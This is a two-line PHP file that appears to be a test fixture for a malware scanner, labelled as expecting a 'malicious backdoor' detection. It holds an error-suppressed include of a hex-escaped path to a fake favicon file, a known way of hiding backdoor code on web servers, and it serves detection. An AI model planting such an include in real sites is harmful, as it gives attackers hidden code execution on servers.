<?php return; // want: malicious backdoor php.include.escaped
@include "\x2fvar\x2fwww\x2ffavicon_1a.ico";
